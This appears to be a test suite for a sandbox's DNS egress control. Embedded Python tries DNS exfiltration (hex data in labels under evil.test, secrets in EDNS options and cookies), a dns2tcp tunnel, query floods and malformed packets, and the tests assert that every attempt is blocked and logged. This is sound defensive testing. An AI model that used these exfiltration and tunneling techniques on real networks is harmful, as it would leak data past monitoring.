/** Ways to carry data out by names, or to make sluice believe in others. New ones are added here and never removed. */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { openSite, type Site, siteMissing } from './site.ts';

const DNS2TCP = '/usr/bin/dns2tcpc';

/** `query(name, type)` makes a question, `udp(bytes)` and `tcp(bytes, answers)` send one and return what comes. */
const TOOLS = `
import socket, struct, sys, os, json, random, time
SERVER = ('198.51.100.53', 53)
TYPES = {'A': 1, 'NULL': 10, 'TXT': 16, 'KEY': 25, 'AAAA': 28}
def wire(name):
    return b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'
def query(name, type='A', id=None, options=None, flags=0x0100):
    id = random.randrange(65536) if id is None else id
    body = struct.pack('!6H', id, flags, 1, 0, 0, 0 if options is None else 1) + wire(name) + struct.pack('!2H', TYPES[type], 1)
    if options is not None: body += b'\\0' + struct.pack('!HHIH', 41, 4096, 0, len(options)) + options
    return body
def udp(bytes, timeout=10):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(timeout); s.connect(SERVER); s.send(bytes)
    return s.recv(65535)
def rcode(bytes): return bytes[3] & 15
def answers(bytes): return struct.unpack('!H', bytes[6:8])[0]
def read(s):
    def whole(n):
        text = b''
        while len(text) < n:
            part = s.recv(n - len(text))
            if not part: raise EOFError
            text += part
        return text
    return whole(struct.unpack('!H', whole(2))[0])
def framed(bytes): return struct.pack('!H', len(bytes)) + bytes
`;

describe('an agent that misuses names', { skip: siteMissing() }, () => {
  let site: Site;
  before(async () => {
    site = await openSite();
  });
  after(() => site?.stop());

  /** What the code printed as JSON, and what of it the server was asked. */
  async function attack(code: string): Promise<{ said: unknown; reached: string[] }> {
    const before = site.dns.asked().length;
    const { status, stdout, stderr } = await site.stack.run(['python3', '-c', `${TOOLS}${code}`]);
    assert.deepEqual([status, stderr], [0, '']);
    return { said: JSON.parse(stdout), reached: site.dns.asked().slice(before) };
  }

  test('data in labels of a zone of its own reaches nobody, and each try is on record', async () => {
    const { said, reached } = await attack(`
chunks = [os.urandom(30).hex() for _ in range(40)]
print(json.dumps([rcode(udp(query(c + '.t.evil.test', t))) for c in chunks[:20] for t in ('NULL', 'TXT')]))
`);
    assert.deepEqual([said, reached], [Array(40).fill(3), []]);
    const tries = (await site.events()).filter(
      ({ text, error }) => /t\.evil\.test/.test(String(text)) && error === 'NAME_UNKNOWN',
    );
    assert.equal(tries.length, 40);
    assert.ok(tries.every(({ decision }) => decision === 'deny'));
  });

  test('dns2tcp finds no way', { skip: existsSync(DNS2TCP) ? false : `${DNS2TCP} is not installed` }, async () => {
    const before = site.dns.asked().length;
    for (const type of ['TXT', 'KEY'])
      await site.stack.run(['timeout', '5', 'dns2tcpc', '-z', 'tunnel.test', '-T', type, '-t', '1', '198.51.100.53']);
    assert.deepEqual(site.dns.asked().slice(before), []);
    assert.ok((await site.events()).some(({ text, exe }) => /tunnel\.test/.test(String(text)) && exe === DNS2TCP));
  });

  test('below a zone that policy opens, labels that look like data, long ones, many of them and TXT stay here', async () => {
    const { said, reached } = await attack(`
say = {}
say['data'] = [rcode(udp(query(os.urandom(16).hex() + '.zone.test'))) for _ in range(5)]
say['long'] = rcode(udp(query('a' * 63 + '.zone.test')))
say['deep'] = rcode(udp(query('a.b.c.d.e.f.zone.test')))
say['txt'] = answers(udp(query('a.zone.test', 'TXT')))
say['plain'] = answers(udp(query('a.zone.test')))
print(json.dumps(say))
`);
    assert.deepEqual(said, { data: Array(5).fill(5), long: 5, deep: 5, txt: 0, plain: 1 });
    assert.deepEqual(reached, ['A a.zone.test']);
  });

  test('the number of different names below a zone is bounded', async () => {
    const { said, reached } = await attack(`
codes = []
for n in range(400):
    codes.append(rcode(udp(query('n%d.zone.test' % n))))
    time.sleep(0.002)
print(json.dumps([codes.count(3), codes.count(5)]))
`);
    assert.deepEqual(said, [200, 200]);
    assert.equal(new Set(reached).size, 200);
  });

  test('case, ids, flags, cookies, padding and options of the client go nowhere', async () => {
    const before = site.dns.log().length;
    const { said } = await attack(`
secret = os.urandom(300)
option = struct.pack('!HH', 12, len(secret)) + secret
cookie = struct.pack('!HH', 10, 8) + b'exfilled'
def mixed(name): return ''.join(random.choice((c.upper(), c.lower())) for c in name)
ok = []
for n in range(20):
    name = mixed('deb.shop.test')
    question = query(name, id=n, options=option + cookie, flags=random.choice((0x0100, 0x0000, 0x0120, 0x0110, 0x0170)))
    answer = udp(question)
    ok.append([answers(answer), answer[:2] == question[:2], wire(name) in answer, secret in answer, b'exfilled' in answer])
print(json.dumps(ok))
`);
    assert.deepEqual(said, Array(20).fill([1, true, true, false, false]));
    const seen =
      site.dns
        .log()
        .slice(before)
        .match(/query\[\S+ \S+ from/g) ?? [];
    assert.deepEqual([...new Set(seen)], ['query[A] deb.shop.test from']);
  });

  test('a flood is refused at once, does not fill the record, and others are answered', async () => {
    const [flood, other] = await Promise.all([
      attack(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(SERVER); s.setblocking(False)
for n in range(20000):
    try: s.send(query('x%d.evil.test' % n))
    except (BlockingIOError, PermissionError): pass # the kernel has a limit, too
s.setblocking(True); s.settimeout(10)
codes = set()
for _ in range(100): codes.add(rcode(s.recv(4096)))
print(json.dumps(sorted(codes)[-1]))
`),
      site.stack.run(['sh', '-c', 'for i in 1 2 3 4 5; do getent ahostsv4 deb.shop.test | head -1; done']),
    ]);
    assert.ok(flood.said === 3 || flood.said === 5);
    assert.equal(other.stdout.match(/198\.51\.100\.23/g)?.length, 5);
    const events = (await site.events()).filter(({ text, message }) => /x\d+\.evil\.test/.test(`${text} ${message}`));
    assert.ok(events.length < 5_000, String(events.length));
    assert.ok(
      events.some(({ error, message }) => error === 'NAME_LIMIT' && /too fast: \d+ refused/.test(String(message))),
    );
  });

  test('what is no question is dropped or told so, and the next one is answered', async () => {
    const { said, reached } = await attack(`
def silent(bytes):
    try: return rcode(udp(bytes, 0.3))
    except TimeoutError: return None
good = query('deb.shop.test')
print(json.dumps([
    silent(good[:2] + b'\\x81\\x80' + good[4:]),
    silent(good[:2] + b'\\x28\\x00' + good[4:]),
    silent(good[:4] + b'\\x00\\x02' + good[6:]),
    silent(good[:4] + b'\\xff\\xff' * 4 + good[12:]),
    silent(good[:12] + b'\\xc0\\x0c' + good[14:]),
    silent(good + b'trailing data'),
    silent(good[:-2] + b'\\x00\\x03'),
    silent(query('deb.shop.test', options=b'\\x00\\x03\\xff\\xff')),
    silent(good),
]))
`);
    assert.deepEqual(said, [null, 4, 1, 1, 1, 1, 5, 0, 0]);
    assert.deepEqual(new Set(reached), new Set(['A deb.shop.test']));
  });

  test('over TCP: questions in a pipeline, byte by byte, too long, and half a one', async () => {
    const { said } = await attack(`
def connect():
    s = socket.create_connection(SERVER); s.settimeout(15); return s
say = {}
s = connect()
names = ['deb.shop.test', 'secret.shop.test', 'four.shop.test'] * 60
s.sendall(b''.join(framed(query(n, id=i)) for i, n in enumerate(names)))
got = {}
for _ in names:
    m = read(s); got[struct.unpack('!H', m[:2])[0]] = (rcode(m), answers(m))
say['pipeline'] = [got[i] == ((3, 0) if i % 3 == 1 else (0, 1)) for i in range(len(names))].count(True)
s = connect(); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for b in framed(query('deb.shop.test')): s.send(bytes([b]))
s.shutdown(socket.SHUT_WR)
say['bytes'] = answers(read(s))
s = connect(); s.sendall(struct.pack('!H', 65535) + b'x' * 10)
try: say['long'] = len(s.recv(10))
except ConnectionResetError: say['long'] = 'reset'
s = connect(); s.sendall(framed(query('deb.shop.test'))[:9]); s.shutdown(socket.SHUT_WR)
say['half'] = len(s.recv(10))
s = connect(); s.sendall(framed(query('four.shop.test')))
say['after'] = answers(read(s))
print(json.dumps(say))
`);
    const { long, ...rest } = said as Record<string, unknown>;
    assert.deepEqual(rest, { pipeline: 180, bytes: 1, half: 0, after: 1 });
    assert.ok(long === 0 || long === 'reset');
  });

  test('names of another session open nothing, and an address alone neither', async () => {
    const code = `
def connect(address):
    try: socket.create_connection((address, 8), timeout=20).recv(1)
    except OSError as e: pass
connect('198.51.100.23')
print(json.dumps('done'))
`;
    await attack(code);
    const end = (await site.events()).findLast(({ type, port }) => type === 'flow.start' && port === 8)!;
    assert.equal(end.error, 'FLOW_NO_RESOURCE');
    assert.doesNotMatch(String(end.message), /deb\.shop\.test/);
  });
});
